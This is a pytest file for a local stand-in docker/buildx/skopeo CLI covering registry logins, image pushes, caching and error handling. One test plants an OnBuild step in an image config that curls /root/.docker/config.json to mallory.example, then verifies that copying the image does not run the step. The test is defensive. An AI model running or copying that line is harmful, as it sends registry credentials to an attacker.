import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import requests
from tests.eep_platform.codebuild.conftest import ECR
from tests.fixtures.disk import SmallDisk

from eep_platform.codebuild import aws, docker, images
from eep_platform.codebuild.options import CACHE, REGISTRY
from eep_platform.containers import base, engines, references, registry
from eep_platform.containers.image import (
    CONFIG,
    DOCKER_MANIFEST,
    INDEX,
    MANIFEST,
    BuiltImage,
    architecture,
    assemble,
)
from eep_platform.paths import cache_dir

Docker = Callable[..., int]
WINE = f"{ECR}/wine"


@pytest.fixture
def docker_of(registry_server: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Docker:
    """The program, as in a build whose source holds the model."""
    source = tmp_path / "src"
    source.mkdir()
    cache = cache_dir() / "images"
    monkeypatch.chdir(source)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("CODEBUILD_SRC_DIR", str(source))
    monkeypatch.setenv(REGISTRY, registry_server)
    monkeypatch.setenv(CACHE, str(cache))

    def run(line: str, stdin: str = "") -> int:
        monkeypatch.setattr(sys, "stdin", io.StringIO(stdin))
        return docker.main(line.split())

    return run


def dockerfile(text: str, name: str = "context/Dockerfile") -> None:
    path = Path(name)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def logged_in(run: Docker) -> None:
    assert run(f"login --username AWS --password-stdin {ECR}", stdin="password\n") == 0


def digest(address: str, tag: str) -> str | None:
    answer = requests.head(f"http://{address}/v2/wine/manifests/{tag}", auth=references.EMBEDDED, timeout=60)
    return answer.headers.get("Docker-Content-Digest") if answer.ok else None


def test_a_login_wants_a_password(docker_of: Docker, capsys: pytest.CaptureFixture[str]) -> None:
    assert docker_of(f"login --username AWS --password-stdin {ECR}", stdin="\n") == 1
    assert "stdin has no password" in capsys.readouterr().err
    logged_in(docker_of)
    assert capsys.readouterr().out == "Login Succeeded\n"
    assert docker_of("login --username AWS --password-stdin docker.io", stdin="p") == 1


def test_a_builder_is_always_there(docker_of: Docker, capsys: pytest.CaptureFixture[str]) -> None:
    assert docker_of("buildx create --use --driver docker-container --name mine") == 0
    assert capsys.readouterr().out == "mine\n"


def test_an_image_is_pushed_under_all_its_tags_only_after_a_login(
    docker_of: Docker, registry_server: str, capsys: pytest.CaptureFixture[str]
) -> None:
    dockerfile(
        'ARG NAME=x\nFROM python:3.11\nARG NAME\nLABEL name=${NAME}\nENTRYPOINT ["python"]', "context/other/File"
    )
    line = (
        f"buildx build --file=context/other/File --build-arg=NAME=pushed --tag {WINE}:one --tag={WINE}:two"
        " --secret id=unused,env=HOME --provenance=false --output type=image,push=true,oci-mediatypes=false context"
    )
    assert docker_of(line) == 1
    assert "no basic auth credentials" in capsys.readouterr().err
    logged_in(docker_of)
    assert docker_of(line) == 0
    assert digest(registry_server, "one") == digest(registry_server, "two") is not None


def test_a_cache_is_exported_beside_the_image(docker_of: Docker, registry_server: str) -> None:
    logged_in(docker_of)
    dockerfile("FROM python:3.11\nLABEL name=cached")
    line = f"buildx build --cache-to type=registry,ref={WINE}:cache,mode=max --output type=cacheonly context"
    assert docker_of(line) == 0
    manifest = requests.get(
        f"http://{registry_server}/v2/wine/manifests/cache", auth=references.EMBEDDED, timeout=60
    ).json()
    assert manifest["config"]["mediaType"] == "application/vnd.buildkit.cacheconfig.v0"
    assert manifest["layers"]


def test_a_cache_that_cannot_be_exported_fails_the_build_unless_it_may(docker_of: Docker) -> None:
    logged_in(docker_of)
    dockerfile("FROM python:3.11\nLABEL name=cached")
    line = f"buildx build --output type=cacheonly --cache-to type=registry,ref={ECR}/no-repository:cache"
    assert docker_of(f"{line} context") == 1
    assert docker_of(f"{line},ignore-error=true context") == 0


def test_a_target_that_only_runs_commands_can_be_tried_out(
    docker_of: Docker, capsys: pytest.CaptureFixture[str]
) -> None:
    dockerfile(
        f"FROM python:3.11 AS test\nCOPY check.py /\nENV N={os.getpid()}\n"
        "RUN --mount=type=secret,id=s,required=true python /check.py\nFROM python:3.11 AS last\n"
    )
    check = Path("context/check.py")
    check.write_text("raise SystemExit(not open('/run/secrets/s').read())")
    line = "buildx build --target test --secret id=s,env=HOME --output type=cacheonly context"
    assert docker_of(line) == 0
    check.write_text("raise SystemExit('it is broken')")
    assert docker_of(line) == 1
    assert "it is broken" in capsys.readouterr().err


@pytest.mark.parametrize(("requested", "status"), [("auto", 0), ("buildah", 1)])
def test_an_engine_that_cannot_pull_the_base_image_is_done_without_unless_it_was_asked_for(
    docker_of: Docker, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, requested: str, status: int
) -> None:
    programs = tmp_path / "programs"
    programs.mkdir()
    offline = "Error: initializing source docker://python:3.11: pinging container registry: no such host"
    scripts = {
        "docker": "exit 1",
        "podman": "exit 1",
        "buildah": f'[ "$1" = info ] || {{ echo "{offline}" >&2; exit 125; }}',
    }
    for name, script in scripts.items():
        (programs / name).write_text(f"#!/bin/sh\n{script}\n")
        (programs / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
    monkeypatch.setenv("EEP_BUILD_ENGINE", requested)
    dockerfile("FROM python:3.11\nENV A=b\n")
    assert docker_of("buildx build --output type=cacheonly context") == status


@pytest.fixture
def buildah_base(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """The name of an image with Python and a shell in a storage of buildah's own; skips where buildah cannot run."""
    found = engines.choose(engines.AUTO, engines.works)
    if found is None or found.program != "buildah":
        pytest.skip(f"the engine of this machine is {found.program if found else 'none'}, and no image can be pulled")
    if os.geteuid() != 0:
        pytest.skip("without root buildah cannot confine commands by chroot")
    storage = tmp_path / "storage.conf"
    places = f'runroot = "{tmp_path}/run"\ngraphroot = "{tmp_path}/storage"\n'
    storage.write_text(f'[storage]\ndriver = "vfs"\n{places}')
    monkeypatch.setenv("EEP_BUILD_ENGINE", engines.AUTO)
    monkeypatch.setenv("CONTAINERS_STORAGE_CONF", str(storage))
    monkeypatch.setenv("BUILDAH_ISOLATION", "chroot")
    small = tmp_path / "small"
    base.build(small)
    made = subprocess.run(  # noqa: S603 - our own words
        ["buildah", "build", "--quiet", "--tag=localhost/small", "--file=-", small],  # noqa: S607 - where it was found
        input="FROM scratch\nCOPY . /\nENV PATH=/usr/local/bin:/usr/bin:/bin\n",
        capture_output=True,
        text=True,
        check=False,
    )
    assert made.returncode == 0, made.stderr
    return "localhost/small"


def test_an_engine_that_is_there_is_found_and_builds_what_is_pushed(
    docker_of: Docker, buildah_base: str, registry_server: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    logged_in(docker_of)
    dockerfile(
        f"FROM {buildah_base}\nARG GREETING\nRUN --mount=type=secret,id=s test -s /run/secrets/s\n"
        "RUN echo $GREETING > /said\n"
    )
    options = "--provenance=false --build-arg=GREETING=hello --secret id=s,env=HOME"
    output = "--output type=image,push=true,oci-mediatypes=false"
    status = docker_of(f"buildx build {options} {output} --tag {WINE}:buildah context")
    said = capsys.readouterr().err
    assert status == 0, said
    assert said.startswith("building with buildah, which this machine has\n")
    pushed = registry.pull(registry_server, "wine", "buildah", tmp_path / "store")
    assert pushed.rootfs
    assert (pushed.rootfs / "said").read_text() == "hello\n"
    assert manifest(registry_server, "buildah")["mediaType"] == DOCKER_MANIFEST


@pytest.mark.parametrize(
    ("options", "text", "reported"),
    [
        pytest.param("--platform linux/s390x", "FROM python:3.11", "no match for platform in manifest", id="platform"),
        pytest.param("--target nowhere", "FROM python:3.11", "target stage 'nowhere' could not be found", id="target"),
        pytest.param("--file nowhere", "FROM python:3.11", "failed to read dockerfile", id="no Dockerfile"),
        pytest.param(
            "--file context/link", "FROM python:3.11", "failed to read dockerfile", id="a Dockerfile that is a link"
        ),
        pytest.param("", "FROM python:3.11\nCOPY ../outside /", "is outside of the context", id="a file outside"),
        pytest.param("", "FROM python:3.11\nCOPY link /", "is outside of the context", id="a file behind a link"),
        pytest.param(
            "",
            "FROM python:3.11 AS a\nRUN --mount=type=bind,target=/c true",
            "--mount=type=bind,target=/c: build it with an engine",
            id="a mount",
        ),
    ],
)
def test_build_errors_have_the_form_of_buildkits(
    docker_of: Docker, capsys: pytest.CaptureFixture[str], options: str, text: str, reported: str
) -> None:
    dockerfile(text)
    dockerfile("FROM python:3.11", "outside")
    Path("context/link").symlink_to(Path("outside").absolute())
    assert docker_of(f"buildx build {options} --output type=cacheonly context") == 1
    error = capsys.readouterr().err
    assert "ERROR: failed to solve: " in error
    assert reported in error


@pytest.mark.parametrize("line", ["away", "--file away/Dockerfile context", "--file ../beside/Dockerfile context"])
def test_links_lead_out_of_the_source_as_with_buildx(docker_of: Docker, registry_server: str, line: str) -> None:
    logged_in(docker_of)
    dockerfile("FROM python:3.11\nLABEL name=theirs")
    dockerfile("FROM python:3.11\nLABEL name=away\nCOPY secret /", "../beside/Dockerfile")
    for folder in ("../beside", "context"):
        Path(folder, "secret").write_text(line)
    Path("away").symlink_to("../beside")
    assert docker_of(f"buildx build --provenance=false --tag {WINE}:away --push {line}") == 0
    assert manifest(registry_server, "away")["layers"]


@pytest.mark.parametrize(
    "line",
    [
        "buildx build --output type=cacheonly nowhere",
        "buildx build --output type=cacheonly ..",
        "buildx build --squash context",
        "buildx build --secret id=s,env=NOT_SET --output type=cacheonly context",
        "buildx build --provenance mode=max context",
        "buildx build --output type=docker context",
        "buildx build --output type=cacheonly --cache-from type=gha context",
        "buildx build --output type=image,push=true context",
        "buildx build --output type=image,push=true --tag docker.io/library/x context",
        "buildx create --driver kubernetes",
        f"buildx imagetools create --tag {WINE}:copy {WINE}:nowhere",
        "buildx build --provenance false --output type=image,push=true -",
        f"run quay.io/skopeo/stable copy docker://{WINE}:a docker://{WINE}:b",
        f"run --volume /tmp:/tmp quay.io/skopeo/stable copy --authfile /tmp docker://{WINE}:a docker://{WINE}:b",
        "run --volume /etc:/etc:ro quay.io/skopeo/stable copy --authfile /etc docker://a docker://b",
        f"login --username AWS {ECR}",
        "run hello-world",
        "",
    ],
)
def test_what_is_not_covered_is_refused(docker_of: Docker, capsys: pytest.CaptureFixture[str], line: str) -> None:
    logged_in(docker_of)
    dockerfile("FROM python:3.11")
    assert docker_of(line) == 1
    assert capsys.readouterr().err


def manifest(address: str, tag: str) -> Any:  # noqa: ANN401 - as typed as JSON
    url = f"http://{address}/v2/wine/manifests/{tag}"
    headers = {"Accept": f"{MANIFEST}, {DOCKER_MANIFEST}, {INDEX}"}
    return requests.get(url, auth=references.EMBEDDED, headers=headers, timeout=60).json()


@pytest.mark.parametrize(
    ("options", "expected", "reason"),
    [
        ("--provenance=false --output type=image,push=true,oci-mediatypes=false", DOCKER_MANIFEST, "as it was told"),
        ("--provenance=false --output type=image,push=true", MANIFEST, "BuildKit's default since v0.31.0"),
        ("--output type=image,push=true,oci-mediatypes=false", INDEX, "buildx adds an attestation by default"),
    ],
)
def test_an_image_has_the_manifest_that_buildx_gives_it(
    docker_of: Docker, registry_server: str, options: str, expected: str, reason: str
) -> None:
    logged_in(docker_of)
    dockerfile("FROM python:3.11\nLABEL name=typed")
    assert docker_of(f"buildx build {options} --tag {WINE}:typed context") == 0
    pushed = manifest(registry_server, "typed")
    assert pushed["mediaType"] == expected, reason
    platforms = [entry["platform"]["os"] for entry in pushed.get("manifests", ())]
    assert platforms == (["linux", "unknown"] if expected == INDEX else [])


def test_an_image_is_copied_with_its_layers_under_a_docker_manifest(
    docker_of: Docker, registry_server: str, model_image: BuiltImage
) -> None:
    foreign = assemble(model_image.blobs, b"{}", CONFIG, [])
    platforms = [{"platform": {"os": "linux", "architecture": name}} for name in ("s390x", architecture())]
    pushed = list(zip((foreign, model_image), platforms, strict=True))
    registry.push_index(pushed, registry=registry_server, repository="wine", tag="several")
    logged_in(docker_of)
    assert docker_of(skopeo(f"{registry_server}/wine:several", f"{WINE}:copied")) == 0
    copied = manifest(registry_server, "copied")
    assert copied["mediaType"] == DOCKER_MANIFEST
    assert [layer["digest"] for layer in copied["layers"]] == [each.digest for each in model_image.manifest.layers]


def test_of_several_platforms_the_one_that_is_wanted_must_be_there(
    docker_of: Docker, registry_server: str, model_image: BuiltImage, capsys: pytest.CaptureFixture[str]
) -> None:
    entry = (model_image, {"platform": {"os": "linux", "architecture": "amd64"}})
    registry.push_index([entry], registry=registry_server, repository="wine", tag="one")
    logged_in(docker_of)
    assert docker_of(skopeo(f"{registry_server}/wine:one", f"{WINE}:x", "--override-arch arm64")) == 1
    assert "the image is for linux/amd64, not for linux/arm64" in capsys.readouterr().err


def test_what_an_image_would_do_in_a_build_from_it_is_copied_and_not_done(
    docker_of: Docker, registry_server: str, model_image: BuiltImage
) -> None:
    config = json.loads(model_image.blobs.read(model_image.manifest.config.digest))
    config["config"]["OnBuild"] = ["RUN curl https://mallory.example -d @/root/.docker/config.json"]
    hostile = assemble(model_image.blobs, json.dumps(config).encode(), CONFIG, model_image.manifest.layers)
    registry.push(hostile, registry=registry_server, repository="wine", tag="hostile")
    logged_in(docker_of)
    assert docker_of(skopeo(f"{registry_server}/wine:hostile", f"{WINE}:harmless")) == 0
    copied = manifest(registry_server, "harmless")
    assert copied["config"]["digest"] == hostile.manifest.config.digest, "the same config, with nothing done"
    assert [each["digest"] for each in copied["layers"]] == [each.digest for each in hostile.manifest.layers]


def test_what_a_build_leaves_in_files_is_pushed_after_it_by_somebody_who_is_logged_in(
    docker_of: Docker, registry_server: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    dockerfile("FROM python:3.11\nLABEL name=left")
    files = f"--cache-from type=local,src={tmp_path}/none --cache-to type=local,dest={tmp_path}/cache,mode=max"
    output = f"--output type=oci,dest={tmp_path}/image.tar,rewrite-timestamp=true"
    assert docker_of(f"buildx build --provenance=false {files} {output} context") == 0
    volumes = f"--volume {images.config_file()}:/logins:ro --volume {tmp_path}:/build"
    skopeo = f"run {volumes} quay.io/skopeo/stable copy --authfile /logins"
    push = f"{skopeo} --format v2s2 --digestfile /build/digest oci-archive:/build/image.tar docker://{WINE}:left"
    assert docker_of(push) == 1
    assert "no basic auth credentials" in capsys.readouterr().err
    logged_in(docker_of)
    assert docker_of(push) == 0
    assert manifest(registry_server, "left")["mediaType"] == DOCKER_MANIFEST
    assert (tmp_path / "digest").read_text() == digest(registry_server, "left"), "of what was pushed"
    assert docker_of(f"{skopeo} --preserve-digests oci:/build/cache:latest docker://{WINE}:kept") == 0
    assert docker_of(f"{skopeo} --preserve-digests docker://{WINE}:kept oci:/build/again:latest") == 0
    assert (tmp_path / "again/index.json").read_text() == (tmp_path / "cache/index.json").read_text()
    assert docker_of(f"logout {ECR}") == 0
    assert docker_of(push) == 1


def test_a_full_disk_fails_the_build_and_says_so(
    docker_of: Docker, small_disk: SmallDisk, capsys: pytest.CaptureFixture[str]
) -> None:
    dockerfile("FROM python:3.11\nLABEL name=left")
    small_disk.fill()
    output = f"--output type=oci,dest={small_disk.path}/image.tar,rewrite-timestamp=true"
    assert docker_of(f"buildx build --provenance=false {output} context") == 1
    assert re.match("ERROR: failed to solve: .*No space left on device", capsys.readouterr().err.splitlines()[-1])


def test_a_copy_that_a_full_disk_stopped_succeeds_once_there_is_room(  # noqa: PLR0917 - fixtures
    docker_of: Docker,
    registry_server: str,
    model_image: BuiltImage,
    small_disk: SmallDisk,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    small = assemble(model_image.blobs, json.dumps({"architecture": architecture()}).encode(), CONFIG, [])
    registry.push(small, registry=registry_server, repository="wine", tag="small")
    logged_in(docker_of)
    copy = skopeo(f"{registry_server}/wine:small", f"{WINE}:fits")
    monkeypatch.setenv(CACHE, str(small_disk.path))
    small_disk.fill()
    assert docker_of(copy) == 1
    assert "No space left on device" in capsys.readouterr().err
    assert digest(registry_server, "fits") is None
    small_disk.free()
    assert docker_of(copy) == 0


def skopeo(source: str, target: str, *options: str) -> str:
    words = ["run --rm --volume", f"{images.config_file()}:/logins:ro", "--entrypoint skopeo quay.io/skopeo/stable:v1"]
    return " ".join([*words, *options, f"copy --authfile /logins --format v2s2 docker://{source} docker://{target}"])


def test_the_password_of_ecr_is_printed(
    registry_server: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://{registry_server}")
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "local")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "local")
    assert aws.main(["ecr", "get-login-password", "--region", "us-east-1"]) == 0
    assert capsys.readouterr().out.strip()
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
    monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")
    assert aws.main(["ecr", "get-login-password", "--region", "us-east-1"]) == 1
    with pytest.raises(SystemExit, match="1"):
        aws.main(["s3", "ls"])
